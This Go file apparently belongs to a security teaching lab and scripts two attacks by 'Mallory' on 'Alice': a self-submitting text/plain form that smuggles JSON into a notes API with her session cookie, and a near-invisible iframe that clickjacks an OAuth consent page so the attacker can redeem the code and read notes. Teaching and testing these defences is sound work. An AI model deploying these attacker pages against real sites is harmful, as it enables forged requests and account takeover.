package xss

import (
	"encoding/json"
	"errors"
	"html/template"
	"net/http"
	"strings"

	"quartet.example/demo/labs/lab"
)

var errNoCode = errors.New("no code came back: the frame shows nothing that could be clicked")

// The pages of the attacker. A form with the type text/plain sends its body as it is.
var (
	formPage  = template.Must(template.New("").Parse(`<!doctype html><title>Kittens</title><form method="post" action="{{.Target}}" enctype="text/plain"><input name="{{.Name}}" value="{{.Value}}"></form><script>document.forms[0].submit()</script>`))
	framePage = template.Must(template.New("").Parse(`<!doctype html><title>Kittens</title><style>body{margin:0}iframe{position:absolute;inset:0;width:100vw;height:100vh;border:0;opacity:.01}</style><h1>Click anywhere to see kittens</h1><iframe src="{{.Target}}"></iframe>`))
)

// serve makes the attacker's web server show a page; requests to /callback are only kept.
func serve(s *lab.Scene, page *template.Template, data any) {
	s.Evil.Serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Path == "/" {
			_ = page.Execute(w, data) // the browser has gone
		}
	}))
}

// sendForm makes the victim's browser send a form to the client, with the cookie of the session.
func sendForm(s *lab.Scene) error {
	b, err := s.Chrome()
	if err != nil {
		return err
	}
	if err := signInAtClient(s, b); err != nil {
		return err
	}
	s.Step("Alice", "opens a page with pictures of kittens, which Mallory has made")
	name, value, err := jsonAsForm(s.Mark())
	if err != nil {
		return err
	}
	serve(s, formPage, map[string]string{"Target": s.Client + "/api/notes", "Name": name, "Value": value})
	s.Step("The page", "sends a form to the notes application; the browser adds the cookies that it has for it")
	if err := b.Open(s.Evil.URL + "/"); err != nil {
		return err
	}
	s.AwaitRefusalOr(func() bool { return s.Wrote() })
	return nil
}

// jsonAsForm returns name and value of a field with which a form of the type text/plain sends JSON with a
// note: browsers put "=" between them.
func jsonAsForm(text string) (name, value string, err error) {
	body, err := json.Marshal(map[string]string{"text": text, "x": "="})
	if err != nil {
		return "", "", err
	}
	name, value, _ = strings.Cut(string(body), "=")
	return name, value, nil
}

// frameConsent shows the consent page of the server in an invisible frame over a page of the attacker.
func frameConsent(s *lab.Scene) error {
	if s.Careless != nil {
		s.Careless.Consent = true
	}
	b, err := s.Chrome()
	if err != nil {
		return err
	}
	if err := signInAtClient(s, b); err != nil {
		return err
	}
	login := s.Begin(s.Mallory, nil)
	serve(s, framePage, map[string]string{"Target": login.URL})
	s.Step("Alice", "opens a page with pictures of kittens, over which Mallory has laid an invisible frame: the page with which Alice would allow Mallory's app to read her notes")
	if err := b.Open(s.Evil.URL + "/"); err != nil {
		return err
	}
	s.Step("Alice", "clicks where the page asks her to")
	got := func() bool {
		_ = b.ClickAt(200, 200) // a user clicks again if nothing happens
		return s.Evil.Received("code") != ""
	}
	if !s.AwaitRefusalOr(got) {
		return errNoCode
	}
	s.Step("Mallory", "redeems the code that her app has received")
	tokens, err := s.Redeem(s.Mallory, s.Evil.Received("code"), login.Verifier)
	if err != nil {
		return err
	}
	_, err = s.ReadNotes(tokens.AccessToken)
	return err
}
